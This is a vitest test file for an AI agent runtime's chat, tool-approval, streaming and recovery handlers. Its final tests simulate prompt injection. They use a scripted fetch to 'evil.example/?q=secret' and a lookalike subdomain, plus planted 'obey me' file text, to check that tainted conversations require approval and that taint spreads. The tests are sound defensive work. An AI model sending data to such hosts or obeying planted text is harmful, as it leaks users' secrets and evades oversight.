import { expect, test } from 'vitest'
import { create as createAgent, remove as removeAgent, update } from '../../handlers/agents/agents.ts'
import { respond } from '../../handlers/chat/approvals.ts'
import { follow, regenerate, send, stop } from '../../handlers/chat/stream.ts'
import { requireDefaultAgent } from '../../runtime/agents/agents.ts'
import type { Host } from '../../runtime/host.ts'
import { ModelError } from '../../runtime/ports/models.ts'
import { tick } from '../../runtime/tick.ts'
import { minute, second } from '../../runtime/time.ts'
import { workKinds } from '../../runtime/work/kinds.ts'
import { recoverWork } from '../../runtime/work/recover.ts'
import { Stopping } from '../../runtime/work/run.ts'
import { call } from '../support/call.ts'
import {
  answerOf,
  chat,
  conversationOf,
  names,
  onlyApproval,
  onlyConversation,
  parseEvents,
  readUntil,
} from '../support/chat.ts'
import { testHost } from '../support/host.ts'
import { type Step, scriptedModels, text, toolCall } from '../support/models.ts'
import { workOff } from '../support/work.ts'

const write = toolCall('files', { action: 'write', path: 'note.txt', content: 'tea' })

const finish = { type: 'finish', reason: 'stop', input_tokens: 1, output_tokens: 1 } as const

const resultStates = async (host: Host) =>
  (await answerOf(host, await onlyConversation(host))).parts
    .filter((part) => part.type === 'tool_result')
    .map(({ state }) => state)

test('answers, stores the answer and announces it', async () => {
  const host = await testHost({ models: scriptedModels(text('Hel', 'lo')) })
  const events = await chat(host, { message: 'Hi there' })

  expect(names(events)).toEqual(['message_start', 'token', 'token', 'done'])
  expect(events.at(-1)?.data).toMatchObject({ input_tokens: 10, output_tokens: 5, total_tokens: 15 })
  const conversation = await conversationOf(host, events[0]?.data.conversation_id)
  expect(conversation).toMatchObject({
    title: 'Hi there',
    status: 'idle',
    message_count: 2,
    input_tokens: 10,
  })
  expect(conversation.messages.map((message) => [message.role, message.content, message.status])).toEqual([
    ['user', 'Hi there', 'complete'],
    ['assistant', 'Hello', 'complete'],
  ])
  expect(host.events).toEqual([
    'conversation.created',
    'message.received',
    'agent.run.started',
    'message.sent',
    'agent.run.finished',
  ])
})

test('runs a tool that only reads, and gives the model its result', async () => {
  const models = scriptedModels(toolCall('time', {}), text('It is noon.'))
  const host = await testHost({ models })
  const events = await chat(host, { message: 'What time is it?' })

  expect(names(events)).toEqual(['message_start', 'tool_use', 'tool_result', 'token', 'done'])
  expect(models.calls[1]?.messages.map((message) => message.role)).toEqual(['user', 'assistant', 'tool'])
})

test('asks before a tool with effects, and runs nothing until the answer is stored', async () => {
  const host = await testHost({ models: scriptedModels(write, text('Written.')) })
  const response = await call(send, host, { body: { message: 'Write a note' } })
  await workOff(host)
  const pending = await onlyApproval(host)
  const { id: root } = await requireDefaultAgent(host)

  expect(pending).toMatchObject({ status: 'pending', tool: 'files' })
  expect(await host.files.stat(`workspaces/${root}`, 'note.txt')).toBeNull()
  const id = pending.conversation_id
  expect(await conversationOf(host, id)).toMatchObject({ status: 'waiting_approval' })

  await call(respond, host, { params: { id }, body: { approval_id: pending.id, approved: true } })
  const [stream] = await Promise.all([response.text(), workOff(host)])
  expect(names(parseEvents(stream))).toEqual([
    'message_start',
    'tool_use',
    'approval_required',
    'approval_resolved',
    'tool_result',
    'token',
    'done',
  ])
  expect(await host.files.stat(`workspaces/${root}`, 'note.txt')).not.toBeNull()
  const [used, asked, given] = parseEvents(stream).filter(({ event }) =>
    /tool_use|required|result/.test(event),
  )
  expect(asked?.data).toMatchObject({ call_id: used?.data.id, approval: { id: pending.id } })
  expect(given?.data).toMatchObject({ id: used?.data.id, state: 'done', is_error: false })
})

test('tells the model of a refusal, with its reason', async () => {
  const models = scriptedModels(write, text('As you wish.'))
  const host = await testHost({ models })
  const response = await call(send, host, { body: { message: 'Write a note' } })
  await workOff(host)
  const approval = await onlyApproval(host)
  const answer = { approval_id: approval.id, approved: false, reason: 'not now' }
  await call(respond, host, { params: { id: approval.conversation_id }, body: answer })
  await Promise.all([response.text(), workOff(host)])

  expect(JSON.stringify(models.calls[1]?.messages)).toContain('not now')
  expect(await resultStates(host)).toEqual(['denied'])
  const twice = await call(respond, host, { params: { id: approval.conversation_id }, body: answer })
  expect(twice.status).toBe(409)
})

test('an approval that nobody answers expires after 30 minutes as a refusal', async () => {
  const models = scriptedModels(write, text('Nobody was there.'))
  const host = await testHost({ models })
  const response = await call(send, host, { body: { message: 'Write a note' } })
  await workOff(host)
  await host.clock.advance(30 * minute)
  await workOff(host)

  expect(await host.sql.read('SELECT status FROM approvals')).toEqual([{ status: 'expired' }])
  expect(await resultStates(host)).toEqual(['expired'])
  expect(names(parseEvents(await response.text())).at(-1)).toBe('done')
  expect(JSON.stringify(models.calls[1]?.messages)).toContain('refusal')
})

test('of 50 answers to one approval the first holds', async () => {
  const host = await testHost({ models: scriptedModels(write, text('Done.')) })
  await call(send, host, { body: { message: 'Write a note' } })
  await workOff(host)
  const approval = await onlyApproval(host)
  const answer = (approved: boolean) =>
    call(respond, host, {
      params: { id: approval.conversation_id },
      body: { approval_id: approval.id, approved },
    })
  const statuses = await Promise.all(
    Array.from({ length: 50 }, async (_, index) => (await answer(index % 2 === 0)).status),
  )

  expect(statuses.filter((status) => status === 200)).toHaveLength(1)
  expect(statuses.filter((status) => status === 409)).toHaveLength(49)
})

test('a model error ends the stream with its code, and keeps what was said', async () => {
  const broken = [
    { type: 'text' as const, text: 'Half an ' },
    new ModelError('interrupted', 'The connection broke'),
  ]
  const host = await testHost({ models: scriptedModels(broken) })
  const events = await chat(host, { message: 'Tell me' })

  expect(events.at(-1)).toMatchObject({ event: 'error', data: { code: 'interrupted' } })
  const { messages, status } = await conversationOf(host, events[0]?.data.conversation_id)
  expect(status).toBe('idle')
  expect(messages[1]).toMatchObject({
    content: 'Half an ',
    status: 'interrupted',
    error: { code: 'interrupted' },
  })
})

test('what a model said before it fell silent is stored within a second', async () => {
  const gate = Promise.withResolvers<void>()
  const models = scriptedModels([
    { type: 'text', text: 'Hm, ' },
    gate.promise,
    { type: 'text', text: 'no.' },
    finish,
  ])
  const host = await testHost({ models })
  const response = await call(send, host, { body: { message: 'Tea?' } })
  await tick(host)
  await readUntil(response.body as ReadableStream<Uint8Array>, 'Hm')
  await host.clock.advance(1 * second)
  const conversation = await onlyConversation(host)
  expect(await answerOf(host, conversation)).toMatchObject({ content: 'Hm, ', status: 'streaming' })
  gate.resolve()
  await host.process.running.settled()
  expect(await answerOf(host, conversation)).toMatchObject({ content: 'Hm, no.', status: 'complete' })
})

test('an answer that fails before it begins still says whose it is', async () => {
  const host = await testHost({ models: scriptedModels() })
  const events = await chat(host, { message: 'Hi', model: 'nobody/m' })
  expect(names(events)).toEqual(['message_start', 'error'])
  const { id } = await onlyConversation(host)
  expect(events[0]?.data.conversation_id).toBe(id)
})

test('the turn goes on when its client leaves, and a returning client hears the rest', async () => {
  const gate = Promise.withResolvers<void>()
  const host = await testHost({
    models: scriptedModels([{ type: 'text', text: 'one ' }, gate.promise, ...(text('two') as [])]),
  })
  const response = await call(send, host, { body: { message: 'Count' } })
  await tick(host)
  const first = parseEvents(await readUntil(response.body as ReadableStream<Uint8Array>, 'one'))
  const id = first[0]?.data.conversation_id ?? ''

  const lastEventId = first.at(-1)?.id ?? ''
  const back = await call(follow, host, { params: { id }, headers: { 'last-event-id': lastEventId } })
  gate.resolve()
  await host.process.running.settled()
  expect(names(parseEvents(await back.text()))).toEqual(['token', 'done'])
  const late = await call(follow, host, { params: { id } })
  expect(late.status).toBe(204)
})

test('a message for a busy conversation waits for its turn', async () => {
  const host = await testHost({ models: scriptedModels(text('first'), text('second')) })
  const one = await call(send, host, { body: { message: 'one' } })
  const row = await onlyConversation(host)
  const two = await call(send, host, { body: { message: 'two', conversation_id: row.id } })
  const refused = await call(send, host, {
    body: { message: 'three', conversation_id: row.id, when_busy: 'reject' },
  })
  await workOff(host)

  expect(refused.status).toBe(409)
  expect(parseEvents(await one.text()).find(({ event }) => event === 'token')?.data.content).toBe('first')
  expect(parseEvents(await two.text()).find(({ event }) => event === 'token')?.data.content).toBe('second')
})

test('stop ends the running turn and those behind it', async () => {
  const never = new Promise<void>(() => undefined)
  const hanging = async function* ({ signal }: { signal: AbortSignal }) {
    yield { type: 'text' as const, text: 'begun' }
    await Promise.race([
      never,
      new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason))),
    ])
  }
  const host = await testHost({ models: scriptedModels(hanging) })
  const one = await call(send, host, { body: { message: 'one' } })
  const row = await onlyConversation(host)
  const two = await call(send, host, { body: { message: 'two', conversation_id: row.id } })
  await tick(host)
  const stopped = await call(stop, host, { params: { id: row.id } })
  await host.process.running.settled()

  expect(await stopped.json()).toEqual({ stopped: 2 })
  expect(parseEvents(await one.text()).at(-1)).toMatchObject({ event: 'error', data: { code: 'cancelled' } })
  expect(parseEvents(await two.text()).at(-1)).toMatchObject({ event: 'error', data: { code: 'cancelled' } })
  expect(await conversationOf(host, row.id)).toMatchObject({ status: 'idle' })
})

test('a turn whose process died is marked, and what it had begun is not begun again', async () => {
  const host = await testHost({ models: scriptedModels(text('never heard')) })
  await chat(host, { message: 'one' })
  const row = await answerOf(host, await onlyConversation(host))
  host.events.length = 0
  const parts = [
    { type: 'text', text: 'I write.' },
    { type: 'tool_use', id: 'a', tool: 'files', input: {}, summary: 'Write', state: 'started' },
  ]
  await host.sql.write([
    {
      sql: `UPDATE work SET status = 'running', lease_owner = 'dead', lease_until = '2020-01-01T00:00:00.000Z'`,
    },
    {
      sql: `UPDATE messages SET status = 'streaming', parts = ? WHERE id = ?`,
      args: [JSON.stringify(parts), row.id],
    },
  ])
  await recoverWork(host, workKinds, true)

  const { messages, status } = await conversationOf(host, row.conversation_id)
  expect(status).toBe('idle')
  expect(messages[1]).toMatchObject({ status: 'interrupted', error: { code: 'interrupted' } })
  expect(messages[1]?.parts[1]).toMatchObject({ state: 'unknown' })
  expect(host.events).toContain('agent.run.failed')
})

test('a stop of the daemon keeps what was said and tells those who listen', async () => {
  const hanging = async function* ({ signal }: { signal: AbortSignal }) {
    yield { type: 'text' as const, text: 'so far' }
    await new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason)))
  }
  const host = await testHost({ models: scriptedModels(hanging) })
  const response = await call(send, host, { body: { message: 'one' } })
  await tick(host)
  const [heard, rest] = (response.body as ReadableStream<Uint8Array>).tee()
  await readUntil(heard, 'so far')
  host.process.running.abortAll(new Stopping('stopping'))
  await host.process.running.settled()

  expect(parseEvents(await new Response(rest).text()).at(-1)).toMatchObject({
    event: 'error',
    data: { code: 'interrupted' },
  })
  expect(await host.sql.read(`SELECT content, status FROM messages WHERE role = 'assistant'`)).toEqual([
    { content: 'so far', status: 'interrupted' },
  ])
})

test('the same call four times is a loop', async () => {
  const again = [1, 2, 3, 4, 5].map((number) => toolCall('time', {}, `call_${number}`))
  const host = await testHost({ models: scriptedModels(...again) })
  const events = await chat(host, { message: 'What time is it?' })

  expect(events.at(-1)).toMatchObject({ event: 'error', data: { code: 'loop_detected' } })
  expect(names(events).filter((name) => name === 'tool_result')).toHaveLength(3)
})

test('nonsense of a model is told back to it', async () => {
  const models = scriptedModels(
    toolCall('no_such_tool', {}),
    toolCall('files', { action: 'fly' }),
    text('Sorry.'),
  )
  const host = await testHost({ models })
  const events = await chat(host, { message: 'Do something' })

  expect(names(events)).toEqual([
    'message_start',
    'tool_use',
    'tool_result',
    'tool_use',
    'tool_result',
    'token',
    'done',
  ])
  expect(JSON.stringify(models.calls.at(-1)?.messages)).toContain('There is no tool no_such_tool here')
})

test('the same Idempotency-Key asks once', async () => {
  const models = scriptedModels(text('once'))
  const host = await testHost({ models })
  const headers = { 'idempotency-key': 'k1' }
  const one = await call(send, host, { body: { message: 'one' }, headers })
  await workOff(host)
  const again = await call(send, host, { body: { message: 'one' }, headers })
  const other = await call(send, host, { body: { message: 'two' }, headers })

  expect(await again.text()).toBe(await one.text())
  expect(other.status).toBe(422)
  expect(models.calls).toHaveLength(1)
})

test('text from outside makes even a granted tool ask', async () => {
  const host = await testHost({ models: scriptedModels(write, text('Written.'), write, text('Written.')) })
  await call(send, host, { body: { message: 'Write a note' } })
  await workOff(host)
  const approval = await onlyApproval(host)
  const id = approval.conversation_id
  await call(respond, host, {
    params: { id },
    body: { approval_id: approval.id, approved: true, remember: true },
  })
  await workOff(host)
  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
  await call(send, host, { body: { message: 'Again', conversation_id: id } })
  await workOff(host)

  expect(await host.sql.read('SELECT status FROM approvals ORDER BY id')).toEqual([
    { status: 'approved' },
    { status: 'pending' },
  ])
})

test('calls that the model made together are one step, also behind an approval', async () => {
  const together: Step = [
    ...['a', 'b', 'c'].map((id) => ({
      type: 'tool_call' as const,
      id,
      name: 'todo',
      input: { action: 'add', text: id },
    })),
    {
      type: 'tool_call',
      id: 'd',
      name: 'files',
      input: { action: 'write', path: 'note.txt', content: 'tea' },
    },
    { type: 'finish', reason: 'tool_calls', input_tokens: 10, output_tokens: 5 },
  ]
  const host = await testHost({ models: scriptedModels(together, text('Done.')) })
  const { id: agent } = await requireDefaultAgent(host)
  await call(update, host, { params: { id: agent }, body: { max_steps: 2 } })
  const response = await call(send, host, { body: { message: 'Do it' } })
  await workOff(host)
  const pending = await onlyApproval(host)
  await call(respond, host, {
    params: { id: pending.conversation_id },
    body: { approval_id: pending.id, approved: true },
  })
  const [stream] = await Promise.all([response.text(), workOff(host)])

  expect(parseEvents(stream).at(-1)).toMatchObject({ event: 'done' })
})

test('a stream whose credential is revoked says so', async () => {
  const host = await testHost({ models: scriptedModels([new Promise(() => undefined)]) })
  const response = await call(send, host, { body: { message: 'Hi' } })
  const stream = response.text()
  await tick(host)
  host.process.connections.endOf('key_test')

  expect(parseEvents(await stream).at(-1)).toMatchObject({
    event: 'error',
    data: { code: 'cancelled', message: 'The credential is no longer valid' },
  })
})

test('regenerates once for each Idempotency-Key', async () => {
  const models = scriptedModels(text('first'), text('second'), text('third'))
  const host = await testHost({ models })
  await chat(host, { message: 'Hi' })
  const { id } = await onlyConversation(host)
  const again = async (key: string) => {
    const headers = { 'idempotency-key': key }
    const response = await call(regenerate, host, { params: { id }, headers })
    const [stream] = await Promise.all([response.text(), workOff(host)])
    return parseEvents(stream).find(({ event }) => event === 'done')?.data.message_id
  }
  const [first, repeated] = [await again('one'), await again('one')]
  expect(first).toMatch(/^msg_/)
  expect(repeated).toBe(first)
  expect(models.calls).toHaveLength(2)
  expect(await again('two')).not.toBe(first)
  expect(models.calls).toHaveLength(3)
  const body = { message: 'Hi', conversation_id: id }
  expect((await call(send, host, { body, headers: { 'idempotency-key': 'two' } })).status).toBe(422)
})

test('an agent that is disabled or deleted answers nobody, and says what to do', async () => {
  const host = await testHost({ models: scriptedModels(text('Hello'), text('never')) })
  const agent = await (await call(createAgent, host, { body: { name: 'Ida' } })).json()
  await chat(host, { message: 'Hi', agent_id: agent.id })
  const { id } = await onlyConversation(host)
  const refusal = async () => {
    const sent = await call(send, host, { body: { message: 'Still there?', conversation_id: id } })
    expect(sent.status).toBe(409)
    expect((await call(regenerate, host, { params: { id } })).status).toBe(409)
    return (await sent.json()).message
  }
  await call(update, host, { params: { id: agent.id }, body: { enabled: false } })
  expect(await refusal()).toMatch(/Ida is disabled; enable it, or choose another agent/)
  await call(removeAgent, host, { params: { id: agent.id } })
  expect(await refusal()).toMatch(/deleted; choose another agent/)
  expect((await conversationOf(host, id)).message_count).toBe(2)
})

test('what was queued for an agent ends with it being disabled, and says so', async () => {
  const { promise, resolve } = Promise.withResolvers<void>()
  const host = await testHost({
    models: scriptedModels([promise, { type: 'text', text: 'first' }, finish], text('never')),
  })
  const agent = await (await call(createAgent, host, { body: { name: 'Ida' } })).json()
  const first = await call(send, host, { body: { message: 'One', agent_id: agent.id } })
  await tick(host)
  const { id } = await onlyConversation(host)
  const second = await call(send, host, { body: { message: 'Two', conversation_id: id } })
  await call(update, host, { params: { id: agent.id }, body: { enabled: false } })
  resolve()
  const [, stream] = await Promise.all([first.text(), second.text(), workOff(host)])
  expect(parseEvents(stream).at(-1)).toMatchObject({
    event: 'error',
    data: { code: 'cancelled', message: expect.stringContaining('Ida is disabled') },
  })
  expect(await conversationOf(host, id)).toMatchObject({ status: 'idle' })
})

test('a stop reaches a turn that another process runs, with its next renewal', async () => {
  const here = await testHost({ models: scriptedModels() })
  const endless: Step = async function* ({ signal }) {
    yield { type: 'text', text: 'On and ' }
    await new Promise((_, reject) => signal?.addEventListener('abort', () => reject(signal.reason)))
  }
  const there = await testHost({ models: scriptedModels(endless), sql: here.sql })
  const response = await call(send, there, { body: { message: 'Go on' } })
  await readUntil(response.body as ReadableStream<Uint8Array>, 'On and')
  const { id } = await onlyConversation(here)
  const stopped = await (await call(stop, here, { params: { id } })).json()
  expect(stopped).toEqual({ stopped: 1 })
  await there.clock.advance(20 * second)
  await tick(there)
  await there.process.running.settled()
  expect(await answerOf(here, await onlyConversation(here))).toMatchObject({
    status: 'interrupted',
    content: 'On and ',
    error: { code: 'cancelled' },
  })
})

test.each([
  ['a host that nobody named asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
  [
    'one that the person named does not',
    'Read news.example please',
    'https://www.news.example/?q=1',
    undefined,
  ],
  [
    'a part of a named one is another',
    'Read news.example please',
    'https://news.example.evil.test/',
    'pending',
  ],
])('after text from outside a fetch could carry things off: %s', async (_, message, url, status) => {
  const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
  const host = await testHost({ models })
  await chat(host, { message })
  const { id } = await onlyConversation(host)
  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
  const response = await call(send, host, { body: { message: 'Go', conversation_id: id } })
  await workOff(host)
  expect(await host.sql.read('SELECT status, risk FROM approvals')).toEqual(
    status ? [{ status, risk: 'medium' }] : [],
  )
  await response.body?.cancel()
})

test('what a tainted conversation writes down taints who reads it later', async () => {
  const models = scriptedModels()
  const host = await testHost({ models })
  const agent = await requireDefaultAgent(host)
  await call(update, host, { params: { id: agent.id }, body: { execution_mode: 'autonomous' } })
  const tainted = async (steps: Step[], before = false) => {
    models.add(text('Hm'), ...steps, text('Done'))
    const [start] = await chat(host, { message: 'Hello' })
    const id = start?.data.conversation_id ?? ''
    if (before)
      await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1 WHERE id = ?', args: [id] }])
    await chat(host, { message: 'Go', conversation_id: id })
    const rows = await host.sql.read<{ tainted: number }>('SELECT tainted FROM conversations WHERE id = ?', [
      id,
    ])
    return rows[0]?.tainted === 1
  }
  const put = (path: string, content: string) => toolCall('files', { action: 'write', path, content })
  const read = (path: string) => toolCall('files', { action: 'read', path })
  const find = toolCall('files', { action: 'search', query: 'obey' })
  await tainted([put('notes/page.md', 'obey me')], true)
  expect(await tainted([put('own.md', 'mine'), read('own.md')])).toBe(false)
  expect(await tainted([read('./notes/page.md')])).toBe(true)
  expect(await tainted([find])).toBe(true)
  expect(await tainted([put('notes/page.md', 'clean, obey'), read('notes/page.md')])).toBe(false)
})
